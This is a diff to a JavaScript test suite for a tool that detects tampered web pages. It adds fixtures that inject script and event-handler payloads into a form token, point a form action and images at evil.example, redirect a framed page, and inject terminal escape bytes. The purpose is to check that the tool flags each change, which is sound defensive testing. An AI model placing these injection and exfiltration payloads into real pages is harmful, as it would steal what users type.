@@ -50,6 +50,12 @@ const altered = (answer, from, to) => {
 const withHeader = (answer, name, value) => ({ ...answer, headers: [...answer.headers.filter(([n]) => n !== name), ...(value === null ? [] : [[name, value]])] });
 const adding = (answer, name, value) => ({ ...answer, headers: [...answer.headers, [name, value]] });
 const policyWith = (answer, change) => withHeader(answer, 'Content-Security-Policy', change(answer.headers.find(([n]) => n === 'Content-Security-Policy')[1]));
+const token = /(?<=\/report\?)[\w-]{43}(?=")/;
+const tokenAs = (answer, text) => {
+  const body = answer.body.toString('latin1');
+  check(token.test(body), 'the meddling finds the token');
+  return { ...answer, body: Buffer.from(body.replace(token, text), 'latin1') };
+};
 const inForm = (html) => (a) => altered(a, '</form>', `</form>${html}`);
 
 const otherRoot = new KeysAlone();
@@ -93,7 +99,7 @@ const meddlings = [
   ["the worker's address", '/ar/', (a) => altered(a, 'data-worker="/script/worker.js"', 'data-worker="/script/w.js"'), '/ar/', ['data-worker', '/script/w.js']],
   ['the address of its settings', '/ar/', (a) => altered(a, '/ar/sealing.json', 'https://evil.example/sealing.json'), '/ar/', ['data-sealing', 'evil.example']],
   // What a page loads and sends.
-  ['a form that is sent elsewhere', '/ar/', (a) => altered(a, 'action="/ar/report"', 'action="https://evil.example/report"'), '/ar/', ['sends what is typed to https://evil.example/report']],
+  ['a form that is sent elsewhere', '/ar/', (a) => altered(a, 'action="/ar/report?', 'action="https://evil.example/report?'), '/ar/', ['sends what is typed to https://evil.example/report']],
   ['a button that sends elsewhere', '/ar/', (a) => altered(a, '<button ', '<button formaction="/collect" '), '/ar/', ['sends what is typed to /collect', 'button formaction']],
   ['a picture that tells of the reader', '/ar/', inForm('<img src="https://evil.example/p.gif">'), '/ar/', ['loads https://evil.example/p.gif']],
   ['a picture by srcset', '/ar/', inForm('<img srcset="/p.gif 2x">'), '/ar/', ['loads /p.gif 2x', 'img srcset']],
@@ -105,8 +111,15 @@ const meddlings = [
   ['a style from elsewhere', '/ar/', (a) => altered(a, '<meta charset', '<link rel="stylesheet" href="https://evil.example/s.css"><meta charset'), '/ar/', ['link href', 'evil.example']],
   ['a style that loads', '/ar/', (a) => altered(a, 'body{margin:0', 'body{background:url(//evil.example/b.png);margin:0'), '/ar/', ['<style> with url']],
   ['a style on an element', '/ar/', inForm('<p style="background:u\\72l(//evil.example)">'), '/ar/', ['p style']],
-  ['something for those without a script', '/ar/', inForm('<noscript><img src=//evil.example/p></noscript>'), '/ar/', ['<noscript>']],
+  ['something for those without a script', '/ar/', inForm('<noscript><img src=//evil.example/p></noscript>'), '/ar/', ['loads //evil.example/p']],
   ['a page of endless tags', '/ar/', (a) => ({ ...a, body: Buffer.from('<b>'.repeat(100000)) }), '/ar/', ['more tags than any page of ours']],
+  // The token's place.
+  ['a script in the token\'s place', '/ar/', (a) => tokenAs(a, '"><script>steal()</script><a id="'), '/ar/', ['runs a script that stands in the page', 'steal()']],
+  ['a handler in the token\'s place', '/ar/', (a) => tokenAs(a, '" onsubmit="steal()'), '/ar/', ['form onsubmit']],
+  ['a token of another length', '/ar/', (a) => tokenAs(a, 'A'.repeat(44)), '/ar/', ['altered page', 'signed were 2 others']],
+  ['a token of other characters', '/ar/', (a) => tokenAs(a, `${'A'.repeat(42)}+`), '/ar/', ['altered page']],
+  ['a token where none belongs', '/ar/', inForm(`<a href="/ar/report?${'A'.repeat(43)}">again</a>`), '/ar/', ['altered page']],
+  ['a form that lacks what its token is for', '/ar/', (a) => ({ ...a, body: Buffer.from(a.body.toString('latin1').replace(/\?[\w-]{43}"/, '"'), 'latin1') }), '/ar/', ['altered page']],
   // Settings and keys.
   ['settings that name another root', '/ar/sealing.json', (a) => altered(a, site.fingerprint, thief.fingerprint), '/ar/sealing.json', ['believe the keys of another root']],
   ['settings that name none', '/ar/sealing.json', (a) => altered(a, '"root"', '"toor"'), '/ar/sealing.json', ['names no root']],
@@ -161,6 +174,39 @@ for (const [what, address, meddle, where, words] of meddlings)
     check(clean(answer.out) && clean(answer.err), 'control characters');
     count('meddlings named');
   });
+
+// Under pressure: the form's frame, and what stands in it.
+const inLine = (change) => (at, a) => (at.startsWith('/ar/line?') ? change(a, at) : null);
+const framings = [
+  ["another token in the frame than in the form", (at, a) => (at === '/ar/' ? altered(a, '/ar/line?', `/ar/line?${'B'.repeat(43)}"><b id="`) : null), '/ar/', ['altered page']],
+  ['a frame of another site', (at, a) => (at === '/ar/' ? altered(a, 'src="/ar/line', 'src="https://evil.example/ar/line') : null), '/ar/', ['has what no page of ours has: <iframe>', 'evil.example']],
+  ["a frame with another language's line", (at, a) => (at === '/ar/' ? altered(a, 'src="/ar/line', 'src="/en/line') : null), '/ar/', ['<iframe>']],
+  ['a frame on a page that is no form', (at, a) => (at === '/ar/help' ? altered(a, '</main>', `<iframe src="/ar/line?${'A'.repeat(43)}"></iframe></main>`) : null), '/ar/help', ['<iframe>']],
+  ['a script in the line', inLine((a) => altered(a, '</body>', '<script>parent.steal()</script></body>')), '/ar/line', ['<script>', 'parent.steal()']],
+  ["a script of the site's own in the line", inLine((a) => altered(a, '</body>', '<script src="/script/page.js"></script></body>')), '/ar/line', ['script src']],
+  ['a line that leads elsewhere', inLine((a) => altered(a, 'url=/', 'url=//evil.example/')), '/ar/line', ['meta refresh', 'evil.example']],
+  ["a line that asks for another's place", inLine((a, at) => altered(a, at.slice(-43), 'B'.repeat(43))), '/ar/line', ['meta refresh']],
+  ['a line that loads', inLine((a) => altered(a, '<p>', '<img src="//evil.example/p"><p>')), '/ar/line', ['img src']],
+  ['a line that asks for something', inLine((a) => altered(a, '<p>', '<form action="/ar/report"></form><p>')), '/ar/line', ['form action']],
+];
+await test('under pressure an honest site passes, and what is in the frame is looked at', async () => {
+  site.variant = 1;
+  const answer = await look();
+  same(answer.code, 0, `${answer.out}${answer.err}`);
+  for (const [what, meddle, where, words] of framings) {
+    meddler.meddle = meddle;
+    const altered_ = await look();
+    meddler.meddle = null;
+    same(altered_.code, 3, `${what}: exit code\n${altered_.out}${altered_.err}`);
+    named(altered_, where, words);
+    count('meddlings named');
+  }
+  meddler.meddle = inLine((a) => ({ ...a, status: 503 }));
+  const busy = await look();
+  meddler.meddle = null;
+  check(busy.code === 1 && busy.out.includes('NOT LOOKED AT /ar/line'), busy.out);
+  site.variant = 0;
+});
 
 await test("a site's bytes can do nothing to a terminal", async () => {
   const evil = '\u001b[2J\u001b]0;owned\u0007\u202eevil\u0000\r';
